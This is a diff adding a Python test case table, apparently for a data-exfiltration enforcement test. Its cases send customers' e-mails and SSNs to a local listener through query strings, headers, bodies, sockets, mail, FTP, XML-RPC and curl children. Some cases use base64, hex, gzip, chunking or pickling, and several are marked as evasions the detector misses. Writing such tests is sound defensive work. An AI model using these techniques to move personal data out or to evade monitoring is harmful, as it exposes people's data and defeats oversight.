@@ -1,0 +1,152 @@
+"""The case table of ``test_red15e_network``: raw e-mails and SSNs of ``customers`` sent to a
+host the policy allows (127.0.0.1, ``localhost``), in URLs, headers, bodies, raw sockets,
+mail/FTP/XML-RPC/multiprocessing protocols and children, each with benign twins.
+
+A case's code may use ``E``/``S`` (60 e-mails and SSNs read from ``customers``), ``D`` (a
+comma-joined run of 25 of each), ``df``, ``OUT`` (a fresh file name), ``URL``/``LURL``/``PORT``
+(the HTTP listener by address and by ``localhost``), ``TPORT`` (raw TCP), ``UPORT`` (UDP) and
+``MPORT`` (SMTP and FTP). ``leak`` marks a measured leak (strict xfail, one line)."""
+from __future__ import annotations
+
+from tests.enforce.red15c_cases import Case, Twin
+
+_RQ = "import requests\n"
+_U = "import urllib.request as u\n"
+_H = "import http.client as h\nc = h.HTTPConnection('127.0.0.1', PORT)\n"
+_CONN = "import socket\ns = socket.create_connection(('127.0.0.1', TPORT))\n"
+
+URLS = [
+    Case("urlopen-query", _U + "u.urlopen(URL + '?d=' + ','.join(E[5:30])).read()"),
+    Case("urlopen-query-localhost", _U + "u.urlopen(LURL + '?d=' + ','.join(S[5:30])).read()"),
+    Case("requests-params", _RQ + "requests.get(URL, params={'d': S[5:30]})"),
+    Case("http-client-path", _H + "c.request('GET', '/q?d=' + ';'.join(E[5:30]))\n"
+         "c.getresponse().read()"),
+    Case("read-csv-url", "import pandas as pd\npd.read_csv(URL + 'x.csv?d=' + ','.join(S[5:30]))"),
+    Case("url-quoted", "import urllib.parse as p\n" + _U
+         + "u.urlopen(URL + '?d=' + p.quote(D, safe='')).read()"),
+    Case("url-quoted-twice", "import urllib.parse as p\n" + _U
+         + "u.urlopen(URL + '?d=' + p.quote(p.quote(D, safe=''), safe='')).read()"),
+    Case("base64-path-emails", "import base64\n" + _U + "u.urlopen(URL + base64.urlsafe_b64encode("
+         "','.join(E[5:30]).encode()).decode()).read()"),
+    Case("base64-query-ssns", "import base64\n" + _U + "u.urlopen(URL + '?d=' + base64."
+         "b64encode(','.join(S[5:30]).encode()).decode()).read()",
+         leak="base64 of digit-only SSNs in a query string is not decoded by the budget's count"),
+    Case("hex-query", _U + "u.urlopen(URL + '?d=' + ','.join(E[5:30]).encode().hex()).read()",
+         leak="hex of e-mails in a query string is not decoded by the budget's count"),
+    Case("path-segments", _U + "u.urlopen(URL + '/'.join(E[5:30])).read()"),
+    Case("one-value-per-request", _U + "for s in S[5:30]:\n    u.urlopen(URL + '?s=' + s).read()"),
+    Case("raw-fragment", _H + "c.request('GET', '/#' + ','.join(E[5:30]))\n"
+         "c.getresponse().read()"),
+    Case("userinfo-requests", _RQ + "import urllib.parse as p\nrequests.get("
+         "f'http://{p.quote(E[6], safe=\"\")}:{S[6]}@127.0.0.1:{PORT}/')"),
+]
+
+HEADERS = [
+    Case("header-x-d", _RQ + "requests.get(URL, headers={'X-D': ','.join(E[5:30])})"),
+    Case("header-cookie", _RQ + "requests.get(URL, cookies={'c': ':'.join(S[5:30])})"),
+    Case("header-authorization", _U + "u.urlopen(u.Request(URL, headers={'Authorization': "
+         "'Bearer ' + ';'.join(E[5:30])})).read()"),
+    Case("basic-auth", _RQ + "requests.get(URL, auth=(E[7], S[7]))"),
+    Case("header-base64", "import base64\n" + _RQ + "requests.get(URL, headers={'X-D': "
+         "base64.b64encode(D.encode()).decode()})"),
+    Case("header-one-per-request", _RQ + "for e in E[5:30]:\n"
+         "    requests.get(URL, headers={'X-D': e})"),
+    Case("putheader", _H + "c.putrequest('GET', '/')\nc.putheader('X-D', ','.join(S[5:30]))\n"
+         "c.endheaders()\nc.getresponse().read()"),
+]
+
+BODIES = [
+    Case("post-data", _RQ + "requests.post(URL, data=','.join(E[5:30]))"),
+    Case("post-json", _RQ + "requests.post(URL, json={'e': E[5:30]})"),
+    Case("post-files-multipart", _RQ + "requests.post(URL, files={'f': ('a.csv', "
+         "'\\n'.join(S[5:30]))})"),
+    Case("post-form", _RQ + "requests.post(URL, data={'e': E[5:30]})"),
+    Case("urllib-data", _U + "u.urlopen(URL, data=','.join(S[5:30]).encode()).read()"),
+    Case("http-client-body", _H + "c.request('POST', '/', body=';'.join(E[5:30]))\n"
+         "c.getresponse().read()"),
+    Case("chunked-body", _H + "c.request('POST', '/', body=iter([e.encode() for e in E[5:30]]), "
+         "encode_chunked=True)\nc.getresponse().read()"),
+    Case("chunked-generator", _RQ + "requests.post(URL, data=(s.encode() for s in S[5:30]))"),
+    Case("gzip-body", "import gzip\n" + _RQ + "requests.post(URL, data=gzip.compress("
+         "D.encode()), headers={'Content-Encoding': 'gzip'})",
+         leak="a compressed body to an allowed host: the budget counts only values as sent"),
+    Case("body-three-bytes", _H + "b = ','.join(E[5:30]).encode()\nc.putrequest('POST', '/')\n"
+         "c.putheader('Content-Length', str(len(b)))\nc.endheaders()\n"
+         "for i in range(0, len(b), 3):\n    c.send(b[i:i + 3])\nc.getresponse().read()"),
+    Case("body-one-per-request", _RQ + "for s in S[5:30]:\n    requests.post(URL, data=s)"),
+]
+
+SOCKETS = [
+    Case("socket-sendall", _CONN + "s.sendall(','.join(E[5:30]).encode())\ns.close()"),
+    Case("socket-localhost", "import socket\ns = socket.create_connection(('localhost', TPORT))\n"
+         "s.sendall(','.join(S[5:30]).encode())\ns.close()"),
+    Case("udp-sendto", "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+         "s.sendto(','.join(E[5:30]).encode(), ('127.0.0.1', UPORT))\ns.close()"),
+    Case("socket-three-bytes", _CONN + "b = ','.join(S[5:30]).encode()\n"
+         "for i in range(0, len(b), 3):\n    s.send(b[i:i + 3])\ns.close()"),
+    Case("asyncio-open-connection", "import asyncio\nasync def f():\n"
+         "    r, w = await asyncio.open_connection('127.0.0.1', TPORT)\n"
+         "    w.write(','.join(E[5:30]).encode())\n    await w.drain()\n    w.close()\n"
+         "    await w.wait_closed()\nawait f()",
+         leak="nothing arrives, but the cell shows ConnectionResetError: asyncio's transport "
+         "swallows the refusal (no [exfiltration] line)"),
+    Case("mp-client-pickle", "from multiprocessing.connection import Client\n"
+         "m = Client(('127.0.0.1', TPORT))\nm.send(S[5:30])\nm.close()"),
+    Case("xmlrpc", "import xmlrpc.client as x\nx.ServerProxy(URL).f(E[5:30])"),
+    Case("smtplib", "import smtplib\nm = smtplib.SMTP('127.0.0.1', MPORT)\n"
+         "m.sendmail('a@b.org', ['c@d.org'], 'Subject: x\\r\\n\\r\\n' + ','.join(E[5:30]))\n"
+         "m.quit()"),
+    Case("ftplib", "import ftplib\nf = ftplib.FTP()\nf.connect('127.0.0.1', MPORT)\n"
+         "f.login('anon', 'x')\nf.sendcmd('SITE ' + ','.join(S[5:30]))\nf.quit()"),
+]
+
+CHILDREN = [   # ``@URL@``: the listener's URL written into the cell, as a user would type it
+    Case("curl-d", "get_ipython().system('curl -s -d ' + ','.join(E[5:30]) + ' @URL@')"),
+    Case("curl-get", "d = ','.join(S[5:30])\n!curl -s \"@URL@?d=$d\""),
+    Case("curl-bang-braces", "d = ','.join(E[5:30])\n!curl -s -H \"X-D: {d}\" @URL@"),
+    Case("curl-data-stdin", "import subprocess\nsubprocess.run(['curl', '-s', '--data-binary', "
+         "'@-', '@URL@'], input=','.join(S[5:30]).encode())"),
+    Case("python-child-argv", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', "
+         "'import sys, urllib.request as u; u.urlopen(\"@URL@\", data=sys.argv[1].encode())', "
+         "','.join(S[5:30])])"),
+    Case("python-child-stdin", "import subprocess, sys\nsubprocess.run([sys.executable, '-c', "
+         "'import sys, urllib.request as u; u.urlopen(\"@URL@\", "
+         "data=sys.stdin.buffer.read())'], input=','.join(E[5:30]).encode())"),
+]
+
+NET = URLS + HEADERS + BODIES + SOCKETS + CHILDREN
+
+# a file the test reads back with ``pickle.load``: lists of characters, protocol 0
+PICKLE = Case("pickle-char-lists", "import pickle\nwith open(OUT, 'wb') as f:\n"
+              "    pickle.dump([list(e) for e in E[5:30]], f, protocol=0)",
+              leak="lists of single characters pickled (protocol 0) into a file are not seen")
+
+TWINS = [
+    Twin("plain-get-counts", _U + "print(u.urlopen(URL + f'?city=Paris&n={len(df)}').read())",
+         ("?city=Paris&n=60", "city,n")),
+    Twin("plain-download", "import pandas as pd\n"
+         "print(pd.read_csv(URL + 'x.csv').city.tolist())", ("['Paris', 'Lyon']",)),
+    Twin("plain-post-aggregate", _RQ + "r = requests.post(URL, json={'by_city': "
+         "df.groupby('city').id.count().to_dict(), 'total': round(float(df.amount.sum()), 2)})\n"
+         "print(r.status_code)", ('"by_city": {"Lyon":', "200")),
+    Twin("plain-headers", _RQ + "print(requests.get(LURL, headers={'X-City': 'Lyon'}, "
+         "cookies={'c': 'SKU-77'}).status_code)", ("X-City: Lyon", "c=SKU-77", "200")),
+    Twin("plain-gzip-chunked", "import gzip\n" + _RQ + "requests.post(URL, data=gzip.compress("
+         "b'Paris,Lyon,Nice'), headers={'Content-Encoding': 'gzip'})\n" + _H
+         + "c.request('POST', '/', body=iter([b'count=', b'60']), encode_chunked=True)\n"
+         "print(c.getresponse().status)", ("Paris,Lyon,Nice", "count=", "200")),
+    Twin("plain-sockets", _CONN + "s.sendall(b'cities:3;rows:60')\ns.close()\n"
+         "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+         "u.sendto(b'Nice,Lyon', ('127.0.0.1', UPORT))\nu.close()\n"
+         "from multiprocessing.connection import Client\nm = Client(('127.0.0.1', TPORT))\n"
+         "m.send(sorted(set(df.city)))\nm.close()", ("cities:3;rows:60", "Nice,Lyon", "Paris")),
+    Twin("plain-mail-xmlrpc", "import smtplib, xmlrpc.client as x\n"
+         "m = smtplib.SMTP('127.0.0.1', MPORT)\n"
+         "m.sendmail('a@b.org', ['c@d.org'], 'Subject: n\\r\\n\\r\\nrows 60 in Paris')\nm.quit()\n"
+         "print(x.ServerProxy(URL).f(['Lyon', 7]))", ("rows 60 in Paris", "<string>Lyon</string>",
+                                                      "ok")),
+    Twin("plain-children", "get_ipython().system('curl -s -d city=Nice @URL@')\n"
+         "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import "
+         "urllib.request as u; u.urlopen(\"@URL@\", data=b\"rows=60\")'], check=True)",
+         ("city=Nice", "rows=60")),
+]
